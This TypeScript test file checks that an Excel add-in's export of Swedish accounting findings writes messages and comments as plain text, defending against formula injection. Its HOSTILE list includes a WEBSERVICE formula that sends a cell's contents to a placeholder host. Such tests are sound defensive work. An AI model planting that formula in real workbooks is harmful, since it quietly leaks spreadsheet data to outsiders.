/**
 * Text the add-in writes stays text. The double takes `Range.values` as Excel does (as typing), so
 * these tests would fail if the export wrote a message or comment that Excel turns into a formula.
 */
import { memoryDocumentSettings } from "../../src/excel/documentSettings";
import { createExcelActions } from "../../src/excel/excelActions";
import type { ExportRow } from "../../src/taskpane/paneActions";
import { createHostDouble } from "../../src/workbench/host/excelDouble";
import { modelFromRows } from "../../src/workbench/host/fromCells";
import { cellKey, type SheetModel } from "../../src/workbench/host/model";

const HOSTILE = [
  "= Balanskravsresultat",
  '=WEBSERVICE("https://example.invalid/?q="&A1)',
  "+46 70 123 45 67",
  "-Justering enligt revisorn",
  "@Ekonomen: se not 3",
  "'citerat",
  "2025",
];

describe("the host double takes written values as Excel takes typing", () => {
  it.each([
    ["=SUM(1,2)", { formula: "=SUM(1,2)" }],
    ["= Balanskravsresultat", { formula: "= Balanskravsresultat" }],
    ["-Justering", { formula: "=-Justering" }],
    ["+Intäkter", { formula: "=+Intäkter" }],
    ["@A1", { formula: "=A1" }],
    ["-125", { value: -125 }],
    ["'=text", { value: "=text" }],
    ["Årets resultat", { value: "Årets resultat" }],
  ])("%s written as a value in a General cell", async (written, expected) => {
    const model = modelFromRows({ Blad: [[null]] });
    const host = createHostDouble(model);
    await host.run(async (context) => {
      context.workbook.worksheets.getItem("Blad").getRange("A1").values = [[written]];
      await context.sync();
    });
    const cell = model.sheets[0].cells.get(cellKey(0, 0))!;
    if ("formula" in expected) expect(cell.formula).toBe(expected.formula);
    else
      expect({ value: cell.value, formula: cell.formula }).toEqual({ value: expected.value, formula: null });
  });

  it("keeps every string exactly in a cell formatted as Text", async () => {
    const model = modelFromRows({ Blad: [[null]] });
    const host = createHostDouble(model);
    await host.run(async (context) => {
      const range = context.workbook.worksheets.getItem("Blad").getRange("A1");
      range.numberFormat = [["@"]];
      range.values = [["=WEBSERVICE(A1)"]];
      await context.sync();
    });
    expect(model.sheets[0].cells.get(cellKey(0, 0))).toMatchObject({
      formula: null,
      value: "=WEBSERVICE(A1)",
    });
  });
});

describe("the export writes text that never becomes a formula", () => {
  const row = (message: string, comment: string): ExportRow => ({
    status: "Kvitterad",
    severity: "Fel",
    statement: "Balanskravsutredning",
    target: { sheet: "BKU", cell: "C9" },
    address: "BKU!C9",
    period: "2025",
    expected: 1920460,
    actual: -1920460,
    difference: -3840920,
    cause: "Teckenfel",
    message,
    comment,
  });

  it("writes messages and kvittering comments that begin with =, +, - or @ as the words they are", async () => {
    const model = modelFromRows({ BKU: [["Balanskravsresultat", null, -1920460]] });
    const host = createHostDouble(model);
    const actions = createExcelActions(host.run, memoryDocumentSettings());
    const name = await actions.exportFindings(HOSTILE.map((t) => row(t, t)));
    const sheet: SheetModel = model.sheets.find((s) => s.name === name)!;
    const formulas = [...sheet.cells.values()].filter((c) => c.formula !== null);
    expect(formulas).toEqual([]);
    HOSTILE.forEach((text, i) => {
      expect(sheet.cells.get(cellKey(i + 1, 9))!.value).toBe(text); // Meddelande
      expect(sheet.cells.get(cellKey(i + 1, 10))!.value).toBe(text); // Kommentar
    });
    expect(sheet.cells.get(cellKey(1, 4))!.value).toBe("2025");
    expect(sheet.cells.get(cellKey(1, 5))).toMatchObject({ value: 1920460, numberFormat: "#,##0" });
  });

  it("leaves an empty amount cell a number cell, so a number typed there later stays a number", async () => {
    const model = modelFromRows({ BKU: [["Balanskravsresultat"]] });
    const host = createHostDouble(model);
    const actions = createExcelActions(host.run, memoryDocumentSettings());
    const name = await actions.exportFindings([
      { ...row("Rubriken saknar år", ""), expected: null, actual: null },
    ]);
    const sheet: SheetModel = model.sheets.find((s) => s.name === name)!;
    expect(sheet.cells.get(cellKey(1, 5))).toMatchObject({ value: null, numberFormat: "#,##0" });
    expect(sheet.cells.get(cellKey(1, 9))).toMatchObject({ value: "Rubriken saknar år", numberFormat: "@" });
  });
});
